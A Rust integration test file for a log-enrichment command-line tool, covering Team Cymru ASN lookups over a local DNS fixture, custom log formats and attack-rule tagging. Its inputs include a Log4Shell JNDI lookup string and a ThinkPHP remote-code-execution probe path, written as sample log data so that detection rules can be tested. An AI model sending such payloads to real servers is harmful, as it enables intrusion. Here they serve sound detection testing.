//! Contract 0.3's threat-intel policy through the CLI: Team Cymru's IP → ASN service over
//! DNS (`--cymru`) against NSD on loopback serving `asn.cymru.com` TXT records in Cymru's
//! format (origin and AS name decoded into each record, a multi-origin answer, IPv6
//! nibble names, an unannounced address, a private address never sent), custom
//! `--log-format`/`--apache-format`, and attack tags.

use fixture::nsd::{Nsd, NsdZones};
use serde_json::Value;

use crate::util::{line, logenrich, records, run, stderr, tool};

const APEX: &str = "asn.cymru.com";

fn zones() -> NsdZones {
    NsdZones::default()
        .with_txt(
            APEX,
            "216.90.108.31.origin.asn.cymru.com",
            "32934 | 31.108.64.0/18 | US | arin | 2012-03-01",
        )
        // Announced by two ASes (a multi-origin answer), and in a wider prefix too.
        .with_txt(
            APEX,
            "1.1.1.1.origin.asn.cymru.com",
            "13335 64512 | 1.1.1.0/24 | AU | apnic | 2011-08-11",
        )
        .with_txt(
            APEX,
            "1.1.1.1.origin.asn.cymru.com",
            "13335 | 1.0.0.0/8 | AU | apnic | 2011-08-11",
        )
        .with_txt(
            APEX,
            "8.8.8.8.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.6.8.4.0.6.8.4.1.0.0.2.origin6.asn.cymru.com",
            "15169 | 2001:4860::/32 | US | arin | 2005-03-14",
        )
        .with_txt(
            APEX,
            "AS32934.asn.cymru.com",
            "32934 | US | arin | 2004-08-24 | FACEBOOK - Meta Platforms, Inc., US",
        )
        .with_txt(
            APEX,
            "AS13335.asn.cymru.com",
            "13335 | US | arin | 2010-07-14 | CLOUDFLARENET - Cloudflare, Inc., US",
        )
        .with_txt(
            APEX,
            "AS15169.asn.cymru.com",
            "15169 | US | arin | 2000-03-30 | GOOGLE - Google LLC, US",
        )
}

/// The rule ids of a record's `attacks`, in order.
fn rules_of(record: &Value) -> Vec<&str> {
    record["attacks"]
        .as_array()
        .unwrap_or_else(|| panic!("no attacks in {record}"))
        .iter()
        .map(|a| a["rule"].as_str().unwrap())
        .collect()
}

fn cymru_of(records: &[Value], ip: &str) -> Value {
    let record = records
        .iter()
        .find(|r| r["ip"] == ip)
        .unwrap_or_else(|| panic!("no record for {ip}"));
    record["cymru"].clone()
}

#[test]
fn cymru_origin_and_as_name_come_from_dns_into_each_record() {
    let Some(program) = tool("nsd") else { return };
    let nsd = Nsd::start(&program, &zones()).expect("nsd starts");
    let clients = [
        "31.108.90.216",
        "1.1.1.1",
        "2001:4860:4860::8888",
        "203.0.113.9",
        "10.1.2.3",
    ];
    let input: String = clients.iter().map(|ip| line(ip, "curl/8") + "\n").collect();
    let out = run(
        logenrich()
            .args(["--no-dns", "--no-geoip", "--cymru", "--nameserver"])
            .arg(nsd.addr().to_string()),
        input.as_bytes(),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let recs = records(&out.stdout);
    assert_eq!(recs.len(), clients.len());

    let meta = cymru_of(&recs, "31.108.90.216");
    assert_eq!(meta["status"], "found", "{meta}");
    assert_eq!(meta["asn"], 32934);
    assert_eq!(meta["prefix"], "31.108.64.0/18");
    assert_eq!(meta["country_code"], "US");
    assert_eq!(meta["registry"], "arin");
    assert_eq!(meta["allocated"], "2012-03-01");
    assert_eq!(meta["as_name"], "FACEBOOK - Meta Platforms, Inc., US");

    // Two origins: both ASNs, the most specific prefix.
    let one = cymru_of(&recs, "1.1.1.1");
    assert_eq!(one["status"], "found", "{one}");
    assert_eq!(one["asn"], 13335);
    assert_eq!(one["asns"], serde_json::json!([13335, 64512]));
    assert_eq!(one["prefix"], "1.1.1.0/24");
    assert_eq!(one["as_name"], "CLOUDFLARENET - Cloudflare, Inc., US");

    let v6 = cymru_of(&recs, "2001:4860:4860::8888");
    assert_eq!(v6["asn"], 15169, "{v6}");
    assert_eq!(v6["prefix"], "2001:4860::/32");
    assert_eq!(v6["as_name"], "GOOGLE - Google LLC, US");

    assert_eq!(cymru_of(&recs, "203.0.113.9")["status"], "not_found");
    assert_eq!(cymru_of(&recs, "10.1.2.3")["status"], "private");

    // Without --cymru, no record has the key (and nothing is sent).
    let out = run(
        logenrich().args(["--no-dns", "--no-geoip"]),
        input.as_bytes(),
    );
    assert!(
        records(&out.stdout)
            .iter()
            .all(|r| r.get("cymru").is_none())
    );
}

/// `--log-format` and `--apache-format` through the CLI: custom fields land in the schema
/// or in `extra`, attack tags see the request, and a bad format is exit 2 naming it.
#[test]
fn custom_formats_and_attack_tags_through_the_cli() {
    let format = r#"$remote_addr [$time_local] "$request" $status $body_bytes_sent "$http_user_agent" rt=$request_time shard=$shard_id"#;
    let input = "198.51.100.7 [19/Jul/2022:13:23:20 +0200] \"GET /index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction HTTP/1.1\" 200 12 \"${jndi:ldap://x/a}\" rt=0.042 shard=7\n";
    let out = run(
        logenrich().args(["--no-dns", "--no-geoip", "--log-format", format]),
        input.as_bytes(),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let rec = &records(&out.stdout)[0];
    assert!(rec.get("error").is_none(), "{rec}");
    assert_eq!(rec["ip"], "198.51.100.7");
    assert_eq!(rec["status"], 200);
    assert_eq!(rec["request_time"], 0.042);
    assert_eq!(rec["extra"]["shard_id"], "7");
    let rules = rules_of(rec);
    assert!(rules.contains(&"log4j-jndi"), "{rules:?}");
    assert!(rules.contains(&"thinkphp-rce"), "{rules:?}");

    let apache = run(
        logenrich().args([
            "--no-dns",
            "--no-geoip",
            "--apache-format",
            r#"%h %l %u %t "%r" %>s %b"#,
        ]),
        b"203.0.113.5 - - [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.0\" 200 -\n",
    );
    let rec = &records(&apache.stdout)[0];
    assert_eq!(
        (rec["ip"].as_str(), rec["status"].as_u64()),
        (Some("203.0.113.5"), Some(200)),
        "{rec}"
    );

    let bad = run(
        logenrich().args([
            "--no-dns",
            "--no-geoip",
            "--log-format",
            "$remote_addr$request",
        ]),
        b"",
    );
    assert_eq!(bad.status.code(), Some(2), "{}", stderr(&bad));
    let why = stderr(&bad);
    assert!(
        why.contains("log-format") && why.contains("directly follows"),
        "{why}"
    );
}

/// `[attacks]` in the TOML config becomes the component's settings: a rule added, a
/// built-in one disabled; a pattern that does not compile is exit 2 naming the rule.
#[test]
fn attack_rules_from_the_config_file() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("logenrich.toml");
    std::fs::write(
        &config,
        r#"
[attacks]
disable = ["log4j-jndi"]
[[attacks.rule]]
id = "wp-login"
fields = ["request"]
pattern = '/wp-login\.php'
description = "WordPress login probes"
reference = "local"
"#,
    )
    .unwrap();
    let input =
        line("198.51.100.7", "${jndi:ldap://x/a}").replace("GET /", "GET /wp-login.php") + "\n";
    let out = run(
        logenrich()
            .args(["--no-dns", "--no-geoip", "--config"])
            .arg(&config),
        input.as_bytes(),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let rec = &records(&out.stdout)[0];
    let rules = rules_of(rec);
    assert_eq!(rules, ["wp-login"], "{rec}");

    std::fs::write(
        &config,
        "[[attacks.rule]]\nid = \"broken\"\npattern = '(unclosed'\n",
    )
    .unwrap();
    let bad = run(
        logenrich()
            .args(["--no-dns", "--no-geoip", "--config"])
            .arg(&config),
        b"",
    );
    assert_eq!(bad.status.code(), Some(2), "{}", stderr(&bad));
    assert!(
        stderr(&bad).contains("attack-rule.broken"),
        "{}",
        stderr(&bad)
    );
}
